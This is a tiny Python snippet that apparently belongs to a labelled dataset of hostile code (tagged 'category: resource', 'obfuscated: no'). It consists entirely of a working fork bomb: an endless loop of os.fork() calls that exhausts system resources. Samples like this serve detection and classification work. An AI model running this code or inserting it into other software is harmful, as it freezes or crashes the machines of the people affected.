# category: resource
# obfuscated: no
import os
while True:
    os.fork()
